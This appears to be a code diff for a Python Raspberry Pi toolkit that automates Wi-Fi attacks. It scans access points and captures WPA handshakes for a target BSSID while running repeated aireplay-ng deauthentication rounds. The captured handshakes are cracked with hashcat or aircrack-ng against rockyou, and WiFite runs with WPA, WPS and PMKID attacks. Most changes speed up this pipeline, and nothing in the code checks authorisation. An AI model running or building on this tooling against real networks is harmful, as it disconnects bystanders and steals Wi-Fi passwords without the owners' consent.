@@ -5,17 +5,102 @@ Full integration of Aircrack-ng suite, WiFite2, Reaver, and other tools
 Pi handles reconnaissance and capture, PC handles heavy cracking
 """
 
+import re
 import subprocess
 import time
 import os
+import csv
+import mmap
 import signal
+import shlex
 import json
+import shutil
 import logging
+import functools
+import itertools
 from pathlib import Path
 from datetime import datetime
 
 logger = logging.getLogger(__name__)
 
+# Optional: pyroute2 drives RTNL/NL80211 directly, replacing the three
+# ip/iw subprocesses (and their sleeps) in manual monitor setup with three
+# netlink messages on one socket. Requires CAP_NET_ADMIN; the shell path
+# stays as the fallback.
+try:
+    from pyroute2 import IPRoute as _PyrouteIPRoute
+    from pyroute2 import IW as _PyrouteIW
+except Exception:
+    _PyrouteIPRoute = None
+    _PyrouteIW = None
+
+# Tools probed at construction. shutil.which only stats PATH entries, so
+# the whole probe is a handful of stat() calls instead of twelve
+# fork+exec+shell --help invocations; cached module-wide because tool
+# installation state doesn't change while we're running. At microseconds
+# total there is nothing left worth parallelizing here - if a per-tool
+# --version check ever comes back, fan it out across a ThreadPoolExecutor
+# rather than probing serially.
+_PROBE_TOOLS = (
+    "aircrack-ng",
+    "airodump-ng",
+    "aireplay-ng",
+    "airbase-ng",
+    "wifite",
+    "reaver",
+    "pixiewps",
+    "kismet",
+    "tcpdump",
+    "tshark",
+    "iwconfig",
+    "iw",
+    "hashcat",
+    "hcxpcapngtool",
+)
+
+@functools.lru_cache(maxsize=1)
+def _probe_tool_availability():
+    return {tool: shutil.which(tool) is not None for tool in _PROBE_TOOLS}
+
+# LLC/SNAP header that prefixes EAPOL (0x888e) payloads inside 802.11 data
+# frames - a cheap fingerprint for handshake frames in a raw capture
+_EAPOL_SNAP = b"\xaa\xaa\x03\x00\x00\x00\x88\x8e"
+
+# Result extraction from tool stdout - one compiled-regex scan over the raw
+# buffer instead of splitting megabytes of progress output into a line list
+_AC_KEY = re.compile(r'KEY FOUND!\s*\[\s*([^\]]+?)\s*\]')
+_WIFITE_KEY = re.compile(r'WPA Key:\s*(\S+)')
+
+_COMMON_WORDLISTS = (
+    "/usr/share/wordlists/rockyou.txt",
+    "/usr/share/wordlists/fasttrack.txt",
+    "/usr/share/dict/words",
+)
+_wordlist_cache = None  # (path, mtime) of the last discovered wordlist
+
+def _find_wordlist():
+    """First existing common wordlist, memoized with mtime validation.
+
+    Repeat crack attempts pay one revalidating stat instead of re-walking
+    the whole candidate list; a replaced wordlist invalidates the cache.
+    """
+    global _wordlist_cache
+    if _wordlist_cache:
+        path, mtime = _wordlist_cache
+        try:
+            if os.stat(path).st_mtime == mtime:
+                return path
+        except OSError:
+            pass
+        _wordlist_cache = None
+    for p in _COMMON_WORDLISTS:
+        try:
+            _wordlist_cache = (p, os.stat(p).st_mtime)
+            return p
+        except OSError:
+            continue
+    return None
+
 class WiFiSecurityTools:
     def __init__(self, scan_iface="wlan0", mon_iface="wlan1"):
         self.scan_iface = scan_iface
@@ -23,196 +108,300 @@ class WiFiSecurityTools:
         self.cap_dir = Path("/home/jhye/captures")
         self.wordlist_dir = Path("/usr/share/wordlists")
         self.temp_dir = Path("/tmp/pistorm")
-        
+        # tmpfs scratch space - scan CSVs land here so the SD card never
+        # sees the write traffic
+        self.shm_dir = Path("/dev/shm/pistorm")
+
         # Ensure directories exist
         self.cap_dir.mkdir(parents=True, exist_ok=True)
         self.temp_dir.mkdir(parents=True, exist_ok=True)
+        self.shm_dir.mkdir(parents=True, exist_ok=True)
         
         # Tool availability
         self.available_tools = self.check_tool_availability()
+
+        # Prime sudo's credential cache once; every later sudo call in the
+        # scan/capture pipeline then hits the timestamp fast path instead
+        # of a full PAM round trip. -n keeps this non-interactive (NOPASSWD
+        # or an already-valid timestamp), so it can't hang on a prompt.
+        try:
+            subprocess.run(["sudo", "-n", "-v"], stdout=subprocess.DEVNULL,
+                           stderr=subprocess.DEVNULL, timeout=5)
+        except Exception:
+            pass
+
+        # Set once monitor mode is confirmed up, so back-to-back scan and
+        # capture calls skip the multi-second teardown/setup dance
+        self._monitor_ready = False
+
+        # (path, mtime) of the wordlist behind the cached test-mode slice
+        self._test_slice_src = None
     
-    def run_cmd(self, cmd, timeout=30, capture_output=True):
-        """Execute command with proper error handling"""
+    def run_cmd(self, cmd, timeout=30, capture_output=True, discard=False):
+        """Execute command with proper error handling.
+
+        Accepts an argv list (preferred - no shell spawned at all) or a
+        string. Strings only go through /bin/sh when they actually need
+        shell features (pipes/redirection); plain commands are shlex-split
+        and exec'd directly, halving process-creation cost per call.
+
+        discard=True routes stdout/stderr to /dev/null for fire-and-forget
+        commands - no pipe buffers filled, nothing decoded.
+        """
         try:
-            logger.info(f"Executing: {cmd}")
-            result = subprocess.run(cmd, shell=True, capture_output=capture_output, 
-                                  text=True, timeout=timeout)
-            return result.returncode, result.stdout, result.stderr
+            logger.info("Executing: %s", cmd)
+            kwargs = {"text": True, "timeout": timeout}
+            if discard:
+                kwargs["stdout"] = subprocess.DEVNULL
+                kwargs["stderr"] = subprocess.DEVNULL
+            else:
+                kwargs["capture_output"] = capture_output
+            if isinstance(cmd, str) and ("|" in cmd or ">" in cmd):
+                result = subprocess.run(cmd, shell=True, **kwargs)
+            else:
+                argv = shlex.split(cmd) if isinstance(cmd, str) else cmd
+                result = subprocess.run(argv, **kwargs)
+            return result.returncode, result.stdout or "", result.stderr or ""
         except subprocess.TimeoutExpired:
-            logger.error(f"Command timeout: {cmd}")
+            logger.error("Command timeout: %s", cmd)
             return -1, "", "timeout"
         except Exception as e:
-            logger.error(f"Command error: {e}")
+            logger.error("Command error: %s", e)
             return -1, "", str(e)
     
     def check_tool_availability(self):
         """Check which WiFi security tools are available"""
-        tools = {
-            "aircrack-ng": ["aircrack-ng", "--help"],
-            "airodump-ng": ["airodump-ng", "--help"],
-            "aireplay-ng": ["aireplay-ng", "--help"],
-            "airbase-ng": ["airbase-ng", "--help"],
-            "wifite": ["wifite", "--help"],
-            "reaver": ["reaver", "--help"],
-            "pixiewps": ["pixiewps", "--help"],
-            "kismet": ["kismet", "--version"],
-            "tcpdump": ["tcpdump", "--version"],
-            "tshark": ["tshark", "--version"],
-            "iwconfig": ["iwconfig", "--version"],
-            "iw": ["iw", "--version"]
-        }
-        
-        available = {}
-        for tool, test_cmd in tools.items():
-            try:
-                rc, out, err = self.run_cmd(" ".join(test_cmd), timeout=5)
-                available[tool] = rc == 0 or "not found" not in err.lower()
-                if available[tool]:
-                    logger.info(f"✅ {tool} available")
-                else:
-                    logger.warning(f"⚠️ {tool} not available")
-            except:
-                available[tool] = False
-                logger.warning(f"❌ {tool} not found")
-        
-        return available
+        available = _probe_tool_availability()
+        for tool, found in available.items():
+            if found:
+                logger.info("✅ %s available", tool)
+            else:
+                logger.warning("⚠️ %s not available", tool)
+        return dict(available)
     
+    def _probe_monitor(self):
+        """Cheap check whether mon_iface is already in monitor mode"""
+        rc, out, _ = self.run_cmd(["iw", "dev", self.mon_iface, "info"], timeout=5)
+        return rc == 0 and "type monitor" in out
+
     def setup_monitor_mode_robust(self):
         """Robust monitor mode setup using aircrack-ng best practices"""
+        # Short-circuit: a previous call already did the full setup and the
+        # interface is still in monitor mode - skip the ~5-10s of service
+        # stops, airmon-ng runs and sleeps
+        if self._monitor_ready and self._probe_monitor():
+            logger.info("✅ Monitor mode already active on %s", self.mon_iface)
+            return True
+        self._monitor_ready = False
+
         logger.info("🔧 Setting up monitor mode using aircrack-ng suite...")
         
         # Step 1: Kill interfering processes using airmon-ng
         if self.available_tools.get("aircrack-ng"):
             logger.info("🔪 Using airmon-ng to kill interfering processes...")
-            self.run_cmd("sudo airmon-ng check kill", timeout=15)
+            self.run_cmd("sudo airmon-ng check kill", timeout=15, discard=True)
             time.sleep(2)
         
-        # Step 2: Stop NetworkManager manually if needed
+        # Step 2: Stop NetworkManager manually if needed. One sudo shell
+        # covers all four commands (4 sudo auth checks + fork/execs -> 1)
+        # and only the final settle sleep is needed. Run it unconditionally:
+        # on stock Pi OS wpa_supplicant is spawned by dhcpcd, so the unit
+        # reports inactive even while the process is running - the pkill
+        # half is what actually clears it.
         logger.info("🛑 Stopping NetworkManager and wpa_supplicant...")
-        stop_commands = [
-            "sudo systemctl stop NetworkManager",
-            "sudo systemctl stop wpa_supplicant", 
-            "sudo pkill -f NetworkManager",
-            "sudo pkill -f wpa_supplicant"
-        ]
-        
-        for cmd in stop_commands:
-            self.run_cmd(cmd, timeout=10)
-            time.sleep(0.5)
+        self.run_cmd(
+            "sudo sh -c 'systemctl stop NetworkManager wpa_supplicant 2>/dev/null; "
+            "pkill -f NetworkManager; pkill -f wpa_supplicant'",
+            timeout=15, discard=True)
+        time.sleep(1)
         
         # Step 3: Use airmon-ng to start monitor mode (recommended method)
         if self.available_tools.get("aircrack-ng"):
-            logger.info(f"📡 Starting monitor mode on {self.mon_iface} using airmon-ng...")
+            logger.info("📡 Starting monitor mode on %s using airmon-ng...", self.mon_iface)
             
             # First check if interface exists
-            rc, out, err = self.run_cmd(f"iwconfig {self.mon_iface}")
+            rc, out, err = self.run_cmd(["iwconfig", self.mon_iface])
             if rc != 0:
-                logger.error(f"Interface {self.mon_iface} not found!")
+                logger.error("Interface %s not found!", self.mon_iface)
                 return False
             
             # Use airmon-ng to start monitor mode
-            rc, out, err = self.run_cmd(f"sudo airmon-ng start {self.mon_iface}")
+            rc, out, err = self.run_cmd(["sudo", "airmon-ng", "start", self.mon_iface])
             
             if rc == 0:
                 # airmon-ng might create wlan1mon or similar
                 monitor_interfaces = ["wlan1mon", "mon0", self.mon_iface]
                 
                 for test_iface in monitor_interfaces:
-                    rc_test, out_test, _ = self.run_cmd(f"iwconfig {test_iface}")
+                    rc_test, out_test, _ = self.run_cmd(["iwconfig", test_iface])
                     if rc_test == 0 and "Mode:Monitor" in out_test:
                         self.mon_iface = test_iface
-                        logger.info(f"✅ Monitor mode active on {self.mon_iface}")
+                        self._monitor_ready = True
+                        logger.info("✅ Monitor mode active on %s", self.mon_iface)
                         return True
         
         # Fallback: Manual monitor mode setup
         logger.info("🔄 Fallback: Manual monitor mode setup...")
         return self.setup_monitor_manual()
     
+    def _setup_monitor_netlink(self):
+        """Monitor mode via netlink - no subprocesses, no settle sleeps.
+
+        Netlink requests are synchronous-on-ack, so the three per-command
+        time.sleep(1) calls of the shell path aren't needed either.
+        """
+        ip = _PyrouteIPRoute()
+        iw = _PyrouteIW()
+        try:
+            idx = ip.link_lookup(ifname=self.mon_iface)
+            if not idx:
+                logger.error("Interface %s not found via netlink", self.mon_iface)
+                return False
+            idx = idx[0]
+            ip.link('set', index=idx, state='down')
+            iw.set_interface_type(idx, 'monitor')
+            ip.link('set', index=idx, state='up')
+            return True
+        finally:
+            iw.close()
+            ip.close()
+
     def setup_monitor_manual(self):
         """Manual monitor mode setup if airmon-ng fails"""
-        logger.info(f"🔧 Manual monitor mode setup for {self.mon_iface}...")
-        
+        logger.info("🔧 Manual monitor mode setup for %s...", self.mon_iface)
+
+        if _PyrouteIPRoute is not None:
+            try:
+                if self._setup_monitor_netlink():
+                    self._monitor_ready = True
+                    logger.info("✅ Monitor mode set via netlink")
+                    return True
+            except Exception as e:
+                logger.warning("Netlink monitor setup failed (%s), falling back to ip/iw", e)
+
         commands = [
-            f"sudo ip link set {self.mon_iface} down",
-            f"sudo iw dev {self.mon_iface} set type monitor",
-            f"sudo ip link set {self.mon_iface} up"
+            ["sudo", "ip", "link", "set", self.mon_iface, "down"],
+            ["sudo", "iw", "dev", self.mon_iface, "set", "type", "monitor"],
+            ["sudo", "ip", "link", "set", self.mon_iface, "up"]
         ]
         
         for cmd in commands:
             rc, out, err = self.run_cmd(cmd)
             if rc != 0:
-                logger.error(f"Manual setup failed: {cmd} - {err}")
+                logger.error("Manual setup failed: %s - %s", cmd, err)
                 return False
             time.sleep(1)
         
         # Verify monitor mode
-        rc, out, err = self.run_cmd(f"iwconfig {self.mon_iface}")
+        rc, out, err = self.run_cmd(["iwconfig", self.mon_iface])
         if rc == 0 and "Mode:Monitor" in out:
+            self._monitor_ready = True
             logger.info("✅ Manual monitor mode setup successful")
             return True
         else:
             logger.error("❌ Manual monitor mode setup failed")
             return False
     
-    def scan_networks_airodump(self, duration=10):
-        """Scan for networks using airodump-ng"""
+    def _parse_airodump_csv(self, csv_file):
+        """Parse the AP section of an airodump-ng CSV into network dicts.
+
+        Streams rows through csv.reader (C tokenizer, constant memory)
+        instead of materializing the file with readlines. The AP section
+        starts at the row whose first cell is 'BSSID' and ends where the
+        station section header begins - cheap sentinels rather than an
+        exact match against the whole 200-char header line.
+        """
+        networks = []
+        try:
+            with open(csv_file, 'r', newline='') as f:
+                in_ap_section = False
+                for row in csv.reader(f):
+                    if not row:
+                        continue
+                    first = row[0].strip()
+                    if first == "BSSID":
+                        in_ap_section = True
+                        continue
+                    if first == "Station MAC":
+                        break
+                    if in_ap_section and len(row) >= 14:
+                        # Unpack the 15-column AP schema once and only
+                        # strip the seven fields we keep
+                        (_, _, _, ch, _, priv, ciph, auth,
+                         pwr, _, _, _, _, essid) = row[:14]
+                        networks.append({
+                            "bssid": first,
+                            "channel": ch.strip(),
+                            "privacy": priv.strip(),
+                            "cipher": ciph.strip(),
+                            "authentication": auth.strip(),
+                            "power": pwr.strip(),
+                            "essid": essid.strip() or "<hidden>"
+                        })
+        except FileNotFoundError:
+            pass
+        except Exception as e:
+            logger.error("Error parsing airodump results: %s", e)
+        return networks
+
+    def scan_networks_airodump(self, duration=10, target_count=20):
+        """Scan for networks using airodump-ng.
+
+        airodump runs as a live Popen writing its CSV to tmpfs once a
+        second; we re-parse the (tiny) file as it grows and SIGINT the scan
+        as soon as target_count APs are visible instead of always sitting
+        out the full duration. The interactive stdout table is an ncurses
+        repaint and not reliably parseable without a tty, so the CSV stays
+        the source of truth - but on /dev/shm it costs no SD-card writes.
+        """
         if not self.available_tools.get("airodump-ng"):
             logger.error("airodump-ng not available")
             return []
-        
-        logger.info(f"📡 Scanning networks with airodump-ng for {duration} seconds...")
-        
+
+        logger.info("📡 Scanning networks with airodump-ng for up to %s seconds...", duration)
+
         # Ensure monitor mode
         if not self.setup_monitor_mode_robust():
             logger.error("Failed to setup monitor mode")
             return []
-        
-        # Scan with airodump-ng
-        scan_file = self.temp_dir / f"scan_{int(time.time())}"
-        cmd = f"timeout {duration} sudo airodump-ng -w {scan_file} --output-format csv {self.mon_iface}"
-        
-        rc, out, err = self.run_cmd(cmd, timeout=duration + 5)
-        
-        # Parse CSV results
+
+        # Scan with airodump-ng, CSV refreshed every second on tmpfs
+        scan_file = self.shm_dir / f"scan_{int(time.time())}"
+        proc = subprocess.Popen(
+            ["sudo", "airodump-ng", "-w", str(scan_file), "--output-format", "csv",
+             "--write-interval", "1", self.mon_iface],
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
         csv_file = f"{scan_file}-01.csv"
         networks = []
-        
-        if os.path.exists(csv_file):
+        deadline = time.time() + duration
+        try:
+            while time.time() < deadline:
+                if proc.poll() is not None:
+                    break
+                time.sleep(1)
+                networks = self._parse_airodump_csv(csv_file)
+                if len(networks) >= target_count:
+                    logger.info("Early stop: %s networks visible", len(networks))
+                    break
+        finally:
+            if proc.poll() is None:
+                # SIGINT lets airodump flush its final CSV before exiting
+                proc.send_signal(signal.SIGINT)
+                try:
+                    proc.wait(timeout=5)
+                except subprocess.TimeoutExpired:
+                    proc.kill()
+
+        # Final parse picks up the flush, then clean up the tmpfs scratch
+        networks = self._parse_airodump_csv(csv_file) or networks
+        for ext in [".csv", ".cap", ".kismet.csv", ".kismet.netxml"]:
             try:
-                with open(csv_file, 'r') as f:
-                    lines = f.readlines()
-                
-                # Find the AP section
-                in_ap_section = False
-                for line in lines:
-                    if line.strip() == "BSSID, First time seen, Last time seen, channel, Speed, Privacy, Cipher, Authentication, Power, # beacons, # IV, LAN IP, ID-length, ESSID, Key":
-                        in_ap_section = True
-                        continue
-                    
-                    if in_ap_section and line.strip() and not line.startswith("Station MAC"):
-                        parts = [p.strip() for p in line.split(',')]
-                        if len(parts) >= 14:
-                            networks.append({
-                                "bssid": parts[0],
-                                "channel": parts[3],
-                                "privacy": parts[5],
-                                "cipher": parts[6],
-                                "authentication": parts[7], 
-                                "power": parts[8],
-                                "essid": parts[13] if parts[13] else "<hidden>"
-                            })
-                
-                # Clean up
-                for ext in [".csv", ".cap", ".kismet.csv", ".kismet.netxml"]:
-                    try:
-                        os.remove(f"{scan_file}-01{ext}")
-                    except:
-                        pass
-                        
-            except Exception as e:
-                logger.error(f"Error parsing airodump results: {e}")
-        
-        logger.info(f"Found {len(networks)} networks")
+                os.remove(f"{scan_file}-01{ext}")
+            except:
+                pass
+
+        logger.info("Found %s networks", len(networks))
         return networks
     
     def capture_handshake_airodump(self, target_bssid, target_channel, duration=60):
@@ -221,7 +410,7 @@ class WiFiSecurityTools:
             logger.error("airodump-ng not available")
             return None
         
-        logger.info(f"🎯 Capturing handshake for {target_bssid} on channel {target_channel}")
+        logger.info("🎯 Capturing handshake for %s on channel %s", target_bssid, target_channel)
         
         # Ensure monitor mode
         if not self.setup_monitor_mode_robust():
@@ -229,32 +418,65 @@ class WiFiSecurityTools:
             return None
         
         # Set channel
-        self.run_cmd(f"sudo iwconfig {self.mon_iface} channel {target_channel}")
+        self.run_cmd(["sudo", "iwconfig", self.mon_iface, "channel", str(target_channel)], discard=True)
         time.sleep(1)
         
-        # Start capture
+        # Start capture - lifetime managed here rather than via `timeout`,
+        # so we can stop as soon as the handshake is on disk
         cap_file = self.cap_dir / f"handshake_{target_bssid.replace(':', '')}_{int(time.time())}"
-        cmd = f"timeout {duration} sudo airodump-ng -c {target_channel} --bssid {target_bssid} -w {cap_file} {self.mon_iface}"
-        
-        # Run capture in background
-        logger.info(f"Starting handshake capture...")
-        proc = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-        
-        # Wait a bit, then start deauth attacks
-        time.sleep(5)
-        
+        logger.info("Starting handshake capture...")
+        proc = subprocess.Popen(
+            ["sudo", "airodump-ng", "-c", str(target_channel), "--bssid", target_bssid,
+             "-w", str(cap_file), self.mon_iface],
+            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+
+        live_cap = f"{cap_file}-01.cap"
+        deadline = time.time() + duration
+        handshake_seen = False
+
+        # Let airodump settle before the first deauth round
+        time.sleep(3)
+
         if self.available_tools.get("aireplay-ng"):
             logger.info("🚀 Starting deauthentication attacks...")
-            deauth_cmd = f"sudo aireplay-ng -0 5 -a {target_bssid} {self.mon_iface}"
-            
-            # Multiple deauth rounds
-            for round_num in range(3):
-                logger.info(f"Deauth round {round_num + 1}/3")
-                self.run_cmd(deauth_cmd, timeout=10)
-                time.sleep(5)
-        
-        # Wait for capture to complete
-        proc.wait()
+            deauth_cmd = ["sudo", "aireplay-ng", "-0", "5", "-a", target_bssid, self.mon_iface]
+
+            # Deauth rounds paced by the capture itself: between rounds we
+            # poll the growing .cap for EAPOL frames and stop the moment the
+            # handshake lands instead of blindly sleeping out fixed rounds
+            for round_num in range(6):
+                if time.time() >= deadline or handshake_seen:
+                    break
+                if self._has_eapol_handshake(live_cap):
+                    handshake_seen = True
+                    break
+                logger.info("Deauth round %s/6", round_num + 1)
+                self.run_cmd(deauth_cmd, timeout=10, discard=True)
+                pace_end = min(time.time() + 5, deadline)
+                while time.time() < pace_end:
+                    if self._has_eapol_handshake(live_cap):
+                        handshake_seen = True
+                        break
+                    time.sleep(2)
+
+        # If still nothing, keep watching until the window closes
+        while not handshake_seen and time.time() < deadline:
+            if self._has_eapol_handshake(live_cap):
+                handshake_seen = True
+                break
+            time.sleep(2)
+
+        if handshake_seen:
+            logger.info("🤝 EAPOL frames captured - stopping capture early")
+
+        # Stop airodump; SIGINT lets it flush the capture cleanly
+        if proc.poll() is None:
+            proc.send_signal(signal.SIGINT)
+            try:
+                proc.wait(timeout=5)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.wait()
         
         # Check for captured files
         cap_files = [
@@ -262,80 +484,163 @@ class WiFiSecurityTools:
             f"{cap_file}.cap"
         ]
         
+        # One stat per candidate instead of exists()+getsize(), keeping the
+        # newest file big enough to matter when several captures exist
+        best = None
         for cap_path in cap_files:
-            if os.path.exists(cap_path) and os.path.getsize(cap_path) > 1000:
-                logger.info(f"✅ Handshake capture completed: {cap_path}")
-                return cap_path
+            try:
+                st = os.stat(cap_path)
+            except OSError:
+                continue
+            if st.st_size > 1000 and (best is None or st.st_mtime > best[0]):
+                best = (st.st_mtime, cap_path)
+
+        if best:
+            cap_path = best[1]
+            if self._has_eapol_handshake(cap_path):
+                logger.info("✅ Handshake capture completed (EAPOL frames present): %s", cap_path)
+            else:
+                logger.info("✅ Capture completed (no EAPOL frames seen yet): %s", cap_path)
+            return cap_path
         
         logger.warning("⚠️ No significant handshake data captured")
         return None
     
-    def analyze_handshake_aircrack(self, cap_file):
-        """Analyze handshake file using aircrack-ng"""
-        if not self.available_tools.get("aircrack-ng"):
-            logger.error("aircrack-ng not available")
+    def _has_eapol_handshake(self, cap_path, min_frames=2):
+        """Check a capture for EAPOL handshake frames without a subprocess.
+
+        mmaps the file and counts LLC/SNAP EAPOL fingerprints - the kernel
+        serves it from page cache, so re-checks on a growing capture cost a
+        few ms versus a full aircrack-ng spawn and pcap re-parse.
+        """
+        try:
+            with open(cap_path, "rb") as f:
+                if os.fstat(f.fileno()).st_size < len(_EAPOL_SNAP):
+                    return False
+                mm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)
+                try:
+                    # mmap has find but no count - walk the matches
+                    hits = 0
+                    off = mm.find(_EAPOL_SNAP)
+                    while off != -1:
+                        hits += 1
+                        if hits >= min_frames:
+                            return True
+                        off = mm.find(_EAPOL_SNAP, off + 1)
+                    return False
+                finally:
+                    mm.close()
+        except (OSError, ValueError):
             return False
-        
-        logger.info(f"🔍 Analyzing handshake in {cap_file}")
-        
-        # Use aircrack-ng to check for handshake
-        cmd = f"aircrack-ng {cap_file}"
-        rc, out, err = self.run_cmd(cmd, timeout=30)
-        
-        # Look for handshake indicators
-        handshake_found = False
-        if "1 handshake" in out.lower() or "handshake" in out.lower():
-            handshake_found = True
-            logger.info("✅ Handshake detected by aircrack-ng")
+
+    def analyze_handshake_aircrack(self, cap_file, slow_verify=False):
+        """Check a capture for a handshake.
+
+        The default path is the in-process mmap EAPOL scan - a few ms with
+        no subprocess. slow_verify=True runs aircrack-ng as well for its
+        stricter per-pair message validation before shipping a capture to
+        the GPU PC.
+        """
+        logger.info("🔍 Analyzing handshake in %s", cap_file)
+
+        handshake_found = self._has_eapol_handshake(cap_file)
+        if handshake_found:
+            logger.info("✅ EAPOL handshake frames present in capture")
         else:
-            logger.warning("⚠️ No handshake detected by aircrack-ng")
-        
+            logger.warning("⚠️ No EAPOL handshake frames in capture")
+
+        if slow_verify and handshake_found and self.available_tools.get("aircrack-ng"):
+            rc, out, err = self.run_cmd(["aircrack-ng", str(cap_file)], timeout=30)
+            handshake_found = "handshake" in out.lower()
+            if handshake_found:
+                logger.info("✅ Handshake confirmed by aircrack-ng")
+            else:
+                logger.warning("⚠️ aircrack-ng did not confirm the handshake")
+
         return handshake_found
     
+    def _crack_with_hashcat(self, cap_file, wordlist_path):
+        """Dictionary attack via hashcat's WPA-PBKDF2 mode 22000.
+
+        hashcat's PBKDF2 kernel is SIMD and picks up the ARMv8 crypto
+        extensions on a Pi, several times faster than aircrack-ng's scalar
+        CPU loop over the same wordlist. Returns the password or None.
+        """
+        hash_file = self.shm_dir / "crack.22000"
+        out_file = self.shm_dir / "crack.out"
+        rc, _, err = self.run_cmd(
+            ["hcxpcapngtool", "-o", str(hash_file), str(cap_file)], timeout=30)
+        if rc != 0 or not hash_file.exists() or hash_file.stat().st_size == 0:
+            logger.warning("hcxpcapngtool produced no crackable hash: %s", err)
+            return None
+        try:
+            rc, out, err = self.run_cmd(
+                ["hashcat", "-m", "22000", "-a", "0", "-O", "--quiet",
+                 "--potfile-disable", "--outfile", str(out_file),
+                 str(hash_file), str(wordlist_path)],
+                timeout=120)
+            if out_file.exists() and out_file.stat().st_size > 0:
+                with open(out_file) as f:
+                    # outfile lines are hash:password - password is last field
+                    return f.readline().strip().rsplit(":", 1)[-1] or None
+        finally:
+            for p in (hash_file, out_file):
+                try:
+                    os.remove(p)
+                except OSError:
+                    pass
+        return None
+
     def crack_wpa_locally(self, cap_file, wordlist_path=None, test_mode=False):
         """Light WPA cracking on Pi (for testing) - Heavy work goes to GPU PC"""
-        if not self.available_tools.get("aircrack-ng"):
-            logger.error("aircrack-ng not available")
+        if not (self.available_tools.get("aircrack-ng") or self.available_tools.get("hashcat")):
+            logger.error("No cracking tool available")
             return None
-        
+
         if not wordlist_path:
-            # Look for common wordlists
-            common_wordlists = [
-                "/usr/share/wordlists/rockyou.txt",
-                "/usr/share/wordlists/fasttrack.txt", 
-                "/usr/share/dict/words"
-            ]
-            
-            for wl in common_wordlists:
-                if os.path.exists(wl):
-                    wordlist_path = wl
-                    break
-        
+            wordlist_path = _find_wordlist()
+
         if not wordlist_path or not os.path.exists(wordlist_path):
             logger.error("No wordlist available for local cracking")
             return None
         
-        logger.info(f"🔓 Testing local crack on Pi (lightweight)")
-        logger.info(f"Wordlist: {wordlist_path}")
+        logger.info("🔓 Testing local crack on Pi (lightweight)")
+        logger.info("Wordlist: %s", wordlist_path)
         
-        # Limit to first 1000 passwords for Pi testing
-        test_wordlist = "/tmp/test_wordlist.txt"
+        # Limit to first 1000 passwords for Pi testing. Sliced in-process
+        # onto tmpfs: no shell+head fork, no SD-card write. The slice is
+        # reused across attempts until the source wordlist changes.
         if test_mode:
-            self.run_cmd(f"head -1000 {wordlist_path} > {test_wordlist}")
-            wordlist_path = test_wordlist
-        
-        cmd = f"timeout 30 aircrack-ng -w {wordlist_path} {cap_file}"
-        rc, out, err = self.run_cmd(cmd, timeout=35)
+            test_wordlist = self.shm_dir / "test_wordlist.txt"
+            try:
+                src_key = (str(wordlist_path), os.stat(wordlist_path).st_mtime)
+                if self._test_slice_src != src_key or not test_wordlist.exists():
+                    with open(wordlist_path, errors="ignore") as src, open(test_wordlist, "w") as dst:
+                        dst.writelines(itertools.islice(src, 1000))
+                    self._test_slice_src = src_key
+                wordlist_path = test_wordlist
+            except OSError as e:
+                logger.error("Could not build test wordlist: %s", e)
+                return None
+
+        # Prefer hashcat's vectorized PBKDF2; aircrack-ng is the fallback
+        if self.available_tools.get("hashcat") and self.available_tools.get("hcxpcapngtool"):
+            password = self._crack_with_hashcat(cap_file, wordlist_path)
+            if password:
+                logger.info("🎉 Password found: %s", password)
+                return password
+        if not self.available_tools.get("aircrack-ng"):
+            logger.info("🔄 No password found in lightweight test - GPU processing recommended")
+            return None
+
+        rc, out, err = self.run_cmd(["timeout", "30", "aircrack-ng", "-w", str(wordlist_path), str(cap_file)], timeout=35)
         
         # Parse result
-        if "KEY FOUND!" in out:
-            # Extract password
-            lines = out.split('\n')
-            for line in lines:
-                if "KEY FOUND!" in line:
-                    password = line.split('[')[1].split(']')[0].strip()
-                    logger.info(f"🎉 Password found: {password}")
-                    return password
+        m = _AC_KEY.search(out)
+        if m:
+            password = m.group(1)
+            logger.info("🎉 Password found: %s", password)
+            return password
         
         logger.info("🔄 No password found in lightweight test - GPU processing recommended")
         return None
@@ -357,7 +662,7 @@ class WiFiSecurityTools:
         # Add various attack options
         cmd += " --wpa --wps --pmkid"
         
-        logger.info(f"Executing: {cmd}")
+        logger.info("Executing: %s", cmd)
         rc, out, err = self.run_cmd(cmd, timeout=attack_time + 60)
         
         # Parse WiFite results
@@ -369,13 +674,8 @@ class WiFiSecurityTools:
         }
         
         # Look for successful cracks
-        if "WPA Key:" in out:
-            lines = out.split('\n')
-            for line in lines:
-                if "WPA Key:" in line:
-                    password = line.split("WPA Key:")[1].strip()
-                    results["passwords_found"].append(password)
-                    results["success"] = True
+        results["passwords_found"] = _WIFITE_KEY.findall(out)
+        results["success"] = bool(results["passwords_found"])
         
         return results
     